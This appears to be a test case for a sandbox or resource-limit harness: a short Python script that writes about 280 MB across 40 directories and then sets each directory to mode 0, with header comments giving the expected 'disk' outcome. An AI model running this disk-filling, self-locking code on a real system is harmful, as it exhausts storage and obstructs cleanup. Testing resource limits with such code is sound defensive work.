"""Fills the disk in folders that it locks behind itself."""

# outcome: disk
# seconds: 10
import os
import time

for number in range(40):
    os.mkdir(str(number))
    with open(f"{number}/big", "wb") as file:
        file.write(bytes(7 << 20))
    os.chmod(str(number), 0)
time.sleep(5)
